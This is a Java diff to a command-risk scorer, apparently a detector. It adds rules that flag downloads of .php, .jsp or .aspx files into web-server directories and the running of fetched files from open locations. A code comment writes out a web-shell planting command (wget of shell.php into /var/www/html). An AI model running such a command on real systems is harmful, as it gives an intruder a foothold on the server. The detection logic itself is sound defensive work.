@@ -92,7 +92,7 @@ final class Fetching {
   private double files(Command command) {
     if (FETCHERS.contains(command.program())) {
       remember(command);
-      return 0;
+      return served(command);
     }
     List<String> own = Wrappers.unwrapped(command.words());
     boolean itself = !own.isEmpty() && isFetched(own.getFirst());
@@ -102,8 +102,25 @@ final class Fetching {
     if (command.program().equals("mv") || command.program().equals("cp")) {
       return 0;
     }
+    boolean open = !fetched.isEmpty() && !own.isEmpty() && Places.isOpen(own.getFirst());
+    if (open) {
+      return 0.85;
+    }
     boolean shell = SHELLS.contains(command.program()) || itself;
     return (itself || interpreted) && (doubtful || shell) ? (doubtful ? 0.9 : 0.75) : 0;
+  }
+
+  /** {@code wget http://host/shell.php -O /var/www/html/s.php}. */
+  private static double served(Command command) {
+    boolean page =
+        command.line().contains("/www/")
+            || command.line().contains("/htdocs/")
+            || command.line().contains("/public_html/");
+    boolean program =
+        command.operands().stream()
+            .anyMatch(
+                word -> word.endsWith(".php") || word.endsWith(".jsp") || word.endsWith(".aspx"));
+    return page && program ? 0.8 : 0;
   }
 
   private void remember(Command command) {
